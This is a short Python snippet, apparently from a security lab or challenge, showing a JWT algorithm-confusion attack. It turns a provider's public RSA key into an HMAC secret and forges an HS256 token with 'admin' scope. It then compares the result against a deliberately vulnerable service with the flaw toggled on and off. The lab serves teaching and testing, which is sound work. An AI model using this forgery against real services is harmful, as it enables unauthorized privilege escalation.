# The provider's public key is public: as PEM bytes it becomes the HMAC secret of an HS256 token.
published = fetch_jwks(lab.config.oauth2.jwks_url)
rsa = next(k for k in published["keys"] if k["kty"] == "RSA")
pem = RSAKey.import_key(rsa).as_pem(private=False)
claims = {**claims_of(lab.provider.mint(["api:read"])), "scope": "admin"}
forged = hs256_token({"typ": "at+jwt", "kid": rsa["kid"]}, claims, pem)  # joserfc refuses a public key as an HMAC key
print("hmac_public_key on: ", vulnerable.execute("admin_status", token=forged).status_code, "|", vulnerable.last_reasons()[0])
vulnerable.disable("hmac_public_key")
print("hmac_public_key off:", vulnerable.execute("admin_status", token=forged).status_code, "|", vulnerable.last_reasons()[0])
challenge.check()
